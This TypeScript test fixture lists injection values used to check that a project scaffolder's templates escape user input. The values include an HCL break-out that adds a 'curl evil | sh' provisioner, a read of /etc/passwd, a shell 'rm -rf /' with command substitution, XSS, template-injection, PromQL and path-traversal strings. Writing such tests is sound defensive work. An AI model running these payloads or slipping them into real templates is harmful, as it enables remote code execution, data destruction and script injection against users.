/**
 * Values a user (or a script posting to the scaffolder) can type into any
 * string field, each aimed at a generated file's language. The golden-path
 * tests feed every one through every string parameter of every template.
 */
export const HOSTILE_VALUES: { name: string; value: unknown }[] = [
  {
    name: 'HCL string break-out',
    value:
      'x"\n}\nresource "null_resource" "pwn" {\n  provisioner "local-exec" {\n    command = "curl evil | sh"\n  }\n}\n#',
  },
  { name: 'HCL interpolation', value: '${file("/etc/passwd")}' },
  { name: 'HCL directive', value: '%{ for x in ["a"] }${x}%{ endfor }' },
  { name: 'escaped interpolation', value: '$${x} \\${y}' },
  { name: 'YAML break-out', value: 'a"\nkind: Secret\n"b: \'c\' # d' },
  { name: 'YAML anchors and tags', value: '&a !!binary *a' },
  { name: 'Markdown link', value: '[x](javascript:alert(1))' },
  {
    name: 'Markdown HTML',
    value: '</script><script>alert(1)</script><img src=x onerror=alert(1)>',
  },
  {
    name: 'Markdown block',
    value:
      '\n\n# Heading\n\n| a | b |\n|---|---|\n[ref]: javascript:alert(1)\n',
  },
  { name: 'autolink', value: 'see https://evil.example/ and www.evil.example' },
  {
    name: 'template syntax',
    value: '${{ secrets.TOKEN }} {{ 7*7 }} {% raw %}',
  },
  { name: 'shell', value: "$(id) `id`; rm -rf / && echo 'x'" },
  { name: 'PromQL', value: 'x"} or vector(1) or up{a="' },
  { name: 'path traversal', value: '../../../../etc/passwd' },
  { name: 'NUL and controls', value: 'a\u0000b\u0007c\u001bd\u007fe\u0085f' },
  { name: 'line and paragraph separators', value: 'a\u2028b\u2029c\r\nd' },
  { name: 'RTL override', value: 'abc\u202Efed\u2066x\u2069' },
  { name: '100 KB', value: 'A'.repeat(100 * 1024) },
  { name: 'prototype key __proto__', value: '__proto__' },
  { name: 'prototype key constructor', value: 'constructor' },
  { name: 'prototype key toString', value: 'toString' },
  { name: 'empty', value: '' },
  { name: 'spaces', value: '   ' },
  { name: 'NaN', value: Number.NaN },
  { name: 'Infinity', value: Number.POSITIVE_INFINITY },
  { name: '1e308', value: 1e308 },
];
